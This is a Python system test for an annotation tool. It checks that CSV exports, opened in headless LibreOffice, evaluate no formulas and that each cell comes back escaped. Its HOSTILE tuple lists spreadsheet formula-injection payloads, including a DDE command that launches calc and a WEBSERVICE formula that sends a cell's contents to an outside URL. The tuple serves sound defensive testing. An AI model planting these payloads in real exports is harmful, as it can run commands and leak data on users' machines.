"""What LibreOffice makes of the CSV."""

from __future__ import annotations

import subprocess
from typing import TYPE_CHECKING
from xml.etree import ElementTree as ET

import pytest

from reader.model.cells import guard, unguard
from reader.project import Project

if TYPE_CHECKING:
    from pathlib import Path

pytestmark = pytest.mark.system

TABLE = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
OFFICE = "{urn:oasis:names:tc:opendocument:xmlns:office:1.0}"
TEXT = "{urn:oasis:names:tc:opendocument:xmlns:text:1.0}"
HOSTILE = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org","click")',
    '=WEBSERVICE("http://example.org/"&A1)',
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    '=DDE("soffice";"x";"y")',
    "'=1+1",
    "''quoted",
    "＝1+1",
)


def _cells(path: Path) -> tuple[list[list[str]], int]:
    """The text of every cell of a flat OpenDocument sheet, and the number of formulas in it."""
    rows, formulas = [], 0
    for row in ET.parse(path).iter(f"{TABLE}table-row"):
        cells = []
        for cell in row.iter(f"{TABLE}table-cell"):
            formulas += cell.get(f"{TABLE}formula") is not None
            words = "\n".join("".join(part.itertext()) for part in cell.iter(f"{TEXT}p"))
            cells += [words] * min(int(cell.get(f"{TABLE}number-columns-repeated", "1")), 40)
        rows.append(cells)
    return rows, formulas


def test_libreoffice_runs_no_cell_of_an_export_and_reads_every_one_back(tmp_path: Path) -> None:
    article = "A headline\n\n" + "\n\n".join(HOSTILE) + "\n"
    (tmp_path / "in").mkdir()
    (tmp_path / "in" / "hostile.txt").write_text(article, "utf-8")
    project = Project.open(tmp_path / "annotations" / "annotations.db", "@anna", create=True)
    project.import_paths([tmp_path / "in"])
    target = project.targets.add("=Mara Quill")
    stance = project.codebook.layers[0]
    stored = project.article(1)
    assert stored is not None
    reading = project.reading(stored)
    for sentence in stored.sentences:
        spot = reading.spot(sentence.position)
        note = HOSTILE[sentence.position % len(HOSTILE)]
        project.record([project.answer(spot, stance, stance.labels[0], target), project.note(spot, note)])
    table = tmp_path / "out.csv"
    rows = project.export(table)
    project.close()

    subprocess.run(
        ["soffice", "--headless", "--norestore", f"-env:UserInstallation=file://{tmp_path}/profile",
         "--infilter=CSV:44,34,76,1", "--convert-to", "fods", "--outdir", str(tmp_path), str(table)],
        check=True, capture_output=True, timeout=170,
    )  # fmt: skip

    cells, formulas = _cells(tmp_path / "out.fods")
    assert formulas == 0
    header = cells[0]
    body = [row for row in cells[1:] if row and row[0]]
    assert len(body) == rows
    words, notes = header.index("sentence"), header.index("note")
    for row in body:
        position = int(row[header.index("sentence_index")])
        sentence = stored.sentences[position]
        expected = stored.text[sentence.start : sentence.end]
        assert row[words] == guard(expected)
        assert unguard(guard(expected)) == expected
        assert row[notes] == guard(HOSTILE[position % len(HOSTILE)])
        assert row[header.index("target")] in ("", guard("=Mara Quill"))
        assert row[header.index("annotator")] == guard("@anna")
